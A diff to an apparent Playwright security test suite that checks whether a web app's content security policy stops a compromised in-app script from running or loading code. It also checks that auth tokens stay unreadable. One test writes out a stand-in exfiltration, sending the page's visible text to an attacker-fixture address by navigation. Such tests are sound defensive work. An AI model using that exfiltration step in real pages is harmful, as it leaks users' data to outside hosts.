@@ -1,40 +1,43 @@
 import { attackIn, expect, test } from '../../support/injected.ts';
-import { sendText, sentTexts } from '../../support/probe.ts';
 import { readStorage, readVariables } from '../../support/readable.ts';
 import { attack, lookAround } from '../../support/own-script.ts';
 import { tokensIn } from '../../support/tokens.ts';
+
+/** Fewer, and a part of the attack has not been tried. */
+const mostWaysIn = 20;
 
 test.describe("a script of the app's own that has turned against it", () => {
   test(
     'makes no code of text, and loads none',
     { tag: '@core' },
-    async ({ page, attackerPages, corruptScript, whatRan }) => {
+    async ({ page, attackerPages, corruptScript, takePolicyOff, whatRan }) => {
       corruptScript(attack);
       await page.goto('/sign-in');
       const outcomes = await attackIn<Record<string, string>>(page);
-
-      expect(Object.keys(outcomes).filter((name) => outcomes[name] !== 'refused')).toEqual([]);
-      expect(Object.keys(outcomes).length).toBeGreaterThan(20);
+      const names = Object.keys(outcomes);
+      expect(names.filter((name) => outcomes[name] !== 'refused')).toEqual([]);
+      expect(names.length).toBeGreaterThan(mostWaysIn);
       expect(await whatRan()).toEqual([]);
       expect(attackerPages.asked.map(({ url }) => url)).toEqual([]);
+
+      takePolicyOff();
+      await page.goto('/sign-in');
+      const without = await attackIn<Record<string, string>>(page);
+      // The attacker's server speaks no WebSocket, and has no worker of the app's origin to offer.
+      expect(names.filter((name) => without[name] === 'refused')).toEqual([
+        'a worker',
+        'a service worker',
+        'a picture',
+        'a WebSocket',
+      ]);
     },
   );
-
-  test('would do so without the policy', async ({ page, corruptScript, takePolicyOff }) => {
-    takePolicyOff();
-    corruptScript(attack);
-    await page.goto('/sign-in');
-    const outcomes = await attackIn<Record<string, string>>(page);
-
-    const refused = Object.keys(outcomes).filter((name) => outcomes[name] === 'refused');
-    // The attacker's server speaks no WebSocket, and has no worker of the app's origin to offer.
-    expect(refused).toEqual(['a worker', 'a service worker', 'a picture', 'a WebSocket']);
-  });
 
   test('finds no token, even without the policy', async ({
     page,
     context,
     signUp,
+    attackerPages,
     corruptScript,
     takePolicyOff,
     wire,
@@ -52,20 +55,7 @@ test.describe("a script of the app's own that has turned against it", () => {
       expect(tokensIn(read, wire.cookieValues())).toEqual([]);
     }
     expect(await context.cookies()).toHaveLength(2);
-  });
 
-  test('can act as the person while the page is open', async ({ page, signUp }) => {
-    await signUp();
-    await sendText(page, 'Written by a script');
-    expect(await sentTexts(page)).toEqual(['Written by a script']);
-  });
-
-  test('can send what it sees away in an address, by leaving the page', async ({
-    page,
-    attackerPages,
-    signUp,
-  }) => {
-    await signUp();
     const attacker = attackerPages.addressOf('foreign', '/?seen=');
     await page.evaluate((to) => location.assign(to + encodeURIComponent(document.body.innerText)), attacker);
     await expect.poll(() => attackerPages.asked[0]?.url).toContain('Ada');
